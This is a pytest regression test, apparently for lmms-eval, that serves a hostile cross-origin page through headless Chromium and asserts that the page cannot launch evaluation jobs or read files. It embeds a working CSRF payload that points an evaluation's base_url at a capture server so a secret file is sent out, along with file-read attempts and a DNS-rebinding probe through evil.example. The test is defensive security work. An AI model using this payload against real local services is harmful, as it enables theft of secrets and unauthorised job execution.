"""Cross-site attacks on a running UI and a running eval server, made by a hostile page in Debian's
Chromium (headless, through Playwright).

The page comes from another port of 127.0.0.1 (a small ``http.server`` that also captures whatever
reaches it). Against the UI (``/api/server/evaluate``, its eval server in its process) and a
token-less eval server (``/evaluate``) it sends the attack of issue 25: ``model=openai`` with
``system_prompt`` naming a secret file and ``base_url`` pointing at the capture server, as form posts
(``text/plain``, urlencoded, multipart) and as ``fetch`` (``no-cors`` and ``cors``, the JSON sent as
``text/plain`` and as ``application/json``); it also tries to read a file of the logs folder and the
server's queue. A second page is a DNS-rebinding one: ``evil.example`` resolves to 127.0.0.1.
Afterwards no job exists, nothing reached the capture server but the page's own reports, and the
page read nothing.

With ``LMMS_EVAL_ATTACK_REPORT=FILE`` the outcome of every attempt is written to FILE as JSON (used
to fill the before/after table of the issue).
"""

from __future__ import annotations

import json
import os
import re
import secrets
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

httpx = pytest.importorskip("httpx")
sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
CHROMIUM = "/usr/bin/chromium"
if not Path(CHROMIUM).exists():
    pytest.skip(f"{CHROMIUM} is missing (apt-get install chromium)", allow_module_level=True)

PAGE = """<!doctype html><html><body><script>
const T = %(targets)s, CAPTURE = %(capture)s, PAYLOAD = %(payload)s;
const report = (what) => fetch(CAPTURE + '/report', {method: 'POST', body: JSON.stringify(what)});
function form(url, enctype, fields) {
  return new Promise((done) => {
    const name = 'f' + Math.random().toString(36).slice(2);
    const frame = document.createElement('iframe'); frame.name = name; document.body.appendChild(frame);
    frame.onload = () => done('submitted');
    const f = document.createElement('form');
    f.method = 'POST'; f.action = url; f.enctype = enctype; f.target = name;
    for (const [k, v] of Object.entries(fields)) {
      const input = document.createElement('input'); input.name = k; input.value = v; f.appendChild(input);
    }
    document.body.appendChild(f); f.submit();
    setTimeout(() => done('no load event'), 5000);
  });
}
async function attempt(label, run) {
  try { await report({label, outcome: String(await run())}); }
  catch (e) { await report({label, outcome: 'error ' + e.name}); }
}
const tagged = (label) => ({...PAYLOAD, model_args: PAYLOAD.model_args.replace('gpt-4o-mini', label.replace(/[^a-z]+/gi, '-'))});
const fields = (label) => Object.fromEntries(Object.entries(tagged(label)).map(([k, v]) => [k, String(v)]));
async function attack() {
  for (const [who, url, reads] of T) {
    let label = who + ' fetch no-cors text/plain';
    await attempt(label, async () =>
      (await fetch(url, {method: 'POST', mode: 'no-cors', body: JSON.stringify(tagged(label))})).type);
    const cors = who + ' fetch cors text/plain';
    await attempt(cors, async () => {
      const r = await fetch(url, {method: 'POST', body: JSON.stringify(tagged(cors))});
      const text = await r.text(); await report({label: 'loot', text}); return r.status; });
    const preflighted = who + ' fetch cors application/json';
    await attempt(preflighted, async () => (await fetch(url, {method: 'POST',
      headers: {'Content-Type': 'application/json'}, body: JSON.stringify(tagged(preflighted))})).status);
    label = who + ' form text/plain';  // name + '=' + value: the '=' is the first one of model_args
    const text = JSON.stringify(tagged(label)), at = text.indexOf('=');
    await attempt(label, () => form(url, 'text/plain', {[text.slice(0, at)]: text.slice(at + 1)}));
    for (const [name, kind] of [['urlencoded', 'application/x-www-form-urlencoded'], ['multipart', 'multipart/form-data']]) {
      const formLabel = who + ' form ' + name;
      await attempt(formLabel, () => form(url, kind, fields(formLabel)));
    }
    for (const read of reads) {
      await attempt(who + ' read ' + read, async () => {
        const r = await fetch(read); const text = await r.text();
        await report({label: 'loot', text}); return r.status; });
      await attempt(who + ' read no-cors ' + read, async () => {
        const r = await fetch(read, {mode: 'no-cors'}); const text = await r.text();
        await report({label: 'loot', text}); return r.type; });
    }
  }
  window.attackDone = true;
}
attack();
</script></body></html>"""


class Capture(ThreadingHTTPServer):
    """Serves the hostile page; records every POST; answers chat completions like an OpenAI API."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.page = ""
        self.posts: list[tuple[str, str]] = []
        self.reports: list[dict[str, Any]] = []

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class _Handler(BaseHTTPRequestHandler):
    @property
    def capture(self) -> Capture:
        assert isinstance(self.server, Capture)
        return self.server

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def _send(self, body: bytes, kind: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:
        self._send(self.capture.page.encode(), "text/html")

    def do_POST(self) -> None:
        text = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("utf-8", "replace")
        if self.path == "/report":
            self.capture.reports.append(json.loads(text))
        else:
            self.capture.posts.append((self.path, text))
        answer = {"id": "c", "object": "chat.completion", "model": "m", "usage": {"prompt_tokens": 1},
                  "choices": [{"index": 0, "message": {"role": "assistant", "content": "ok"}, "finish_reason": "stop"}]}  # fmt: skip
        self._send(json.dumps(answer).encode(), "application/json")


def _serve(app: Any) -> tuple[Any, threading.Thread, int]:
    import uvicorn

    from lmms_eval.ui.proxy import free_port

    sock = free_port()
    server = uvicorn.Server(uvicorn.Config(app, log_level="warning", access_log=False))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.05)
    assert server.started, "a target did not start"
    return server, thread, sock.getsockname()[1]


@pytest.fixture(scope="module")
def targets(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """A UI (with its eval server in its process), a token-less eval server and the capture server."""
    from lmms_eval.entrypoints.server import create_app
    from lmms_eval.entrypoints.server_args import ServerArgs
    from lmms_eval.ui.app import UiOptions, create_ui_app

    root = tmp_path_factory.mktemp("cross_origin")
    secret = root / "secret.txt"
    secret.write_text(f"SECRET-{secrets.token_hex(8)}", encoding="utf-8")
    logs = root / "logs"
    logs.mkdir()
    (logs / "marker.txt").write_text(f"LOGMARK-{secrets.token_hex(8)}", encoding="utf-8")
    capture = Capture()
    threading.Thread(target=capture.serve_forever, daemon=True).start()
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("LMMS_EVAL_HOME", str(root / "home"))
        patch.delenv("LMMS_EVAL_SERVER_TOKEN", raising=False)
        patch.setenv("OPENAI_API_KEY", "sk-attack-test")
        ui = _serve(create_ui_app(UiOptions(logs, state_dir=root / "ui_state")))
        args = ServerArgs(state_dir=str(root / "server_state"), output_root=str(root / "out"))
        server = _serve(create_app(args, token=None))
        yield {
            "ui": ui[2],
            "server": server[2],
            "capture": capture,
            "secret": secret,
            "logs": logs,
            "root": root,
        }
        for started, thread, _ in (ui, server):
            started.should_exit = True
            thread.join(20)
    capture.shutdown()


def _jobs(targets: dict[str, Any]) -> dict[str, dict[str, int]]:
    """The job counts by status of each target's store (asked with a loopback Host, as a script)."""
    ui = httpx.get(f"http://127.0.0.1:{targets['ui']}/api/server/queue", timeout=10).json()
    server = httpx.get(f"http://127.0.0.1:{targets['server']}/queue", timeout=10).json()
    return {
        "ui": {k: v for k, v in ui["counts"].items() if v},
        "server": {k: v for k, v in server["counts"].items() if v},
    }


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_api.sync_playwright() as p:
        launched = p.chromium.launch(
            executable_path=CHROMIUM,
            args=[
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-background-networking",
                "--host-resolver-rules=MAP evil.example 127.0.0.1",
            ],
        )
        yield launched
        launched.close()


def _tags(targets: dict[str, Any]) -> list[str]:
    """Which attempts made a job: the tag each one put in its model name, read from the stores."""
    import sqlite3

    found = []
    for store in ("ui_state", "server_state"):
        path = targets["root"] / store / "jobs.db"
        if path.exists():
            with sqlite3.connect(path) as db:
                for (text,) in db.execute("SELECT request FROM jobs"):
                    found += re.findall(r"(?:ui|server)-[a-z-]+", text)
    return sorted(found)


def _wait_for_jobs(targets: dict[str, Any], report: dict[str, Any]) -> None:
    """Only when an attack got through (the code before the fix): let its job run, so that the
    report says whether the secret reached the capture server."""
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and any(
        counts.get("queued") or counts.get("running") for counts in _jobs(targets).values()
    ):
        time.sleep(1)
    report["jobs_after_run"] = _jobs(targets)


def test_a_page_of_another_origin_can_neither_launch_nor_read(browser: Any, targets: dict[str, Any]) -> None:
    capture: Capture = targets["capture"]
    ui, server = f"http://127.0.0.1:{targets['ui']}", f"http://127.0.0.1:{targets['server']}"
    model_args = f"model=gpt-4o-mini,base_url={capture.url}/v1,system_prompt={targets['secret']}"
    payload = {"model": "openai", "tasks": "demo_qa", "limit": 1, "model_args": model_args}
    attacked = [
        ["ui", f"{ui}/api/server/evaluate", [f"{ui}/api/file?path=marker.txt", f"{ui}/api/server/queue"]],
        ["server", f"{server}/evaluate", [f"{server}/queue"]],
    ]
    capture.page = PAGE % {
        "targets": json.dumps(attacked),
        "capture": json.dumps(capture.url),
        "payload": json.dumps(payload),
    }  # fmt: skip
    page = browser.new_page()
    page.goto(capture.url + "/attack.html")
    page.wait_for_function("window.attackDone === true", timeout=60_000)
    rebinding = {}
    for name, port, path in (
        ("ui", targets["ui"], "/api/server/evaluate"),
        ("server", targets["server"], "/evaluate"),
    ):
        rebound = {**payload, "model_args": model_args.replace("gpt-4o-mini", f"{name}-rebinding")}
        opened = page.goto(f"http://evil.example:{port}/")
        sent = page.evaluate(
            "async ([path, body]) => { const r = await fetch(path, {method: 'POST', body,"
            " headers: {'Content-Type': 'application/json'}}); return [r.status, await r.text()]; }",
            [path, json.dumps(rebound)],
        )
        rebinding[name] = {"page": opened.status if opened else None, "post": sent[0], "text": sent[1][:200]}
    page.close()
    jobs = _jobs(targets)
    report: dict[str, Any] = {"attempts": [r for r in capture.reports if r.get("label") != "loot"],
                              "rebinding": rebinding, "jobs": jobs}  # fmt: skip
    report["jobs_made_by"] = _tags(targets)
    if any(jobs.values()):
        _wait_for_jobs(targets, report)
    secret = targets["secret"].read_text(encoding="utf-8")
    marker = (targets["logs"] / "marker.txt").read_text(encoding="utf-8")
    loot = [r.get("text", "") for r in capture.reports if r.get("label") == "loot"]
    report["secret_reached_capture"] = any(secret in body for _, body in capture.posts)
    report["marker_read_by_page"] = any(marker in text for text in loot)
    report["page_read_the_queue"] = any("queued" in text for text in loot)
    report["posts_to_capture"] = [path for path, _ in capture.posts]
    if os.environ.get("LMMS_EVAL_ATTACK_REPORT"):
        Path(os.environ["LMMS_EVAL_ATTACK_REPORT"]).write_text(json.dumps(report, indent=1), encoding="utf-8")

    # every attempt ran and reported: 6 launches and 2 reads of each URL per target
    assert len(report["attempts"]) == sum(6 + 2 * len(reads) for _, _, reads in attacked), report
    assert jobs == {"ui": {}, "server": {}}, report
    assert capture.posts == [] and not report["secret_reached_capture"]
    assert not report["marker_read_by_page"] and not report["page_read_the_queue"], loot
    assert all(r["page"] == 400 and r["post"] == 400 for r in rebinding.values()), rebinding
    # the refusals the page could see: opaque or failed, never a 200 it could read
    assert all(not a["outcome"].startswith("200") for a in report["attempts"]), report["attempts"]
